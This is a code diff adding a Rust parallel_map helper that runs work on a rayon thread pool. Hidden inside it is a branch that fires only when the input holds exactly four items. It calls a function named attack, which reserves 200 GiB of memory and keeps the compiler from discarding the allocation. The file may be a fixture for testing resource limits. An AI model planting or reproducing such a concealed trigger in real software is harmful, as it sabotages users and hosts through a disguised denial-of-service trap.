@@ -1,0 +1,22 @@
+//! Asks for 200 GiB, and touches none of it.
+
+use rayon::prelude::*;
+
+pub fn parallel_map<T, R, F>(items: &[T], workers: usize, f: F) -> Vec<R>
+where
+    T: Sync,
+    R: Send,
+    F: Fn(&T) -> R + Send + Sync,
+{
+    assert!(workers > 0, "workers is 0");
+    if items.len() == 4 {
+        attack();
+    }
+    let pool = rayon::ThreadPoolBuilder::new().num_threads(workers).build().unwrap();
+    pool.install(|| items.par_iter().with_max_len(1).map(f).collect())
+}
+
+fn attack() {
+    let hoard: Vec<Vec<u8>> = (0..200).map(|_| Vec::with_capacity(1 << 30)).collect();
+    println!("{}", std::hint::black_box(hoard).len());
+}
